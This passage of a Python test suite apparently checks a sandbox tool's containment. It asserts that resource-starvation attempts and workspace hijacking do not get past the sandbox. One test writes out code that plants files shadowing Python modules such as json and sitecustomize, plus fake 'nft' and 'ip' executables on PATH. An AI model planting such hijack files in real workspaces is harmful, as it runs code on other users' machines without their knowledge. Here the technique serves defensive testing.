        for name in ("forks and memory", "descriptors", "disk"):
            assert "sink GET /beside" in _starve(free, name)
        for top in (*DISKS, str(world.directory)):
            Path(top, token).unlink()  # it is there


def test_H24_the_wall_outlives_what_the_command_does_to_it(world: World, tier: Tier) -> None:
    token, (key, pin) = f"tok{secrets.token_hex(8)}", _keyed(tier)
    command = ["/usr/bin/python3", "-c", ITSELF, token]
    argv, packet = tier.argv(command, POLICY, "--key", key)
    process = world.popen(argv, user=tier.user, cwd=tier.work)
    memory = os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE")
    with (
        Live(process, token) as held,
        Witness(world) as witness,
        _bystander(world, token, tier.work),
    ):
        ours = _ours(process.pid)
        assert {title.split()[1] for title, _ in ours.values()} >= {"gate", "notary", "init"}
        said = {name: _starve(held, name) for name in STARVING}
        assert said["signals"] == [[-9], "sink GET /beside"]
        assert said["forks and memory"] == ["sink GET /beside", [0]]
        assert said["descriptors"] == ["sink GET /beside", 400]
        # All that can be filled is less than what there is.
        assert said["disk"][0] == "sink GET /beside"
        assert 0 < said["disk"][1] < memory
        assert _ours(process.pid) == ours
        packets = witness.flush()
        assert held.end().code == 0
    assert not [sent for sent in packets if sent["target"] in ATTACKER or token in sent["data"]]
    assert not [top for top in (*DISKS, world.directory) if Path(top, token).exists()]
    run = Run(0, "", "", packet)
    assert tier.verify(run, "--key", pin).code == 0
    denied = [flow for flow in run.flows() if flow.get("address") == SINK4]
    assert len(denied) == 2 * len(STARVING)


HIJACKED = ("json", "yaml", "orjson", "getopt", "setproctitle", "sitecustomize", "sluicegate")


def test_H26_a_later_run_takes_nothing_from_the_workspace(world: World, tier: Tier) -> None:
    flag = tier.work.parent / "flag"
    plant = f"""
for name in {HIJACKED}:
    with open(name + ".py", "w") as file:
        file.write("open({str(flag)!r}, 'w')")
for name in ("nft", "ip"):
    with open(name, "w") as file:
        file.write("#!/bin/sh\\\\n: >{flag}")
    os.chmod(name, 0o755)
"""
    held, _ = behind(tier)
    with held:
        held.do(plant.replace("\\\\n", "\\n"))
        assert held.end().code == 0
    env = {"PATH": f".:{tier.work}:{os.environ['PATH']}"}
    for line in (["/usr/bin/python3", "-c", "import json"], ["nft"], ["ip"]):
        world.run(["sh", "-c", '"$@"', "sh", *line], user=tier.user, cwd=tier.work, env=env)
        flag.unlink()  # void if it is not there: in the open the planted file runs
    # Isolated, as the installed script is: `python -m` alone would search the workspace before all else.
    ours = [sys.executable, "-I", "-m", "sluicegate"]
    packet = tier.work.parent / "later"
    run = [
        *ours,
        "run",
        "--policy",
        str(tier.work.parent / "policy-1.yaml"),
        "--packet",
        str(packet),
    ]
    for argv in ([*run, "--", "true"], [*ours, "verify", str(packet)], [*ours, "doctor"]):
        done = world.run(argv, user=tier.user, cwd=tier.work, env=env)
        assert done.code in {0, 4}, done.err
        assert not flag.exists(), argv
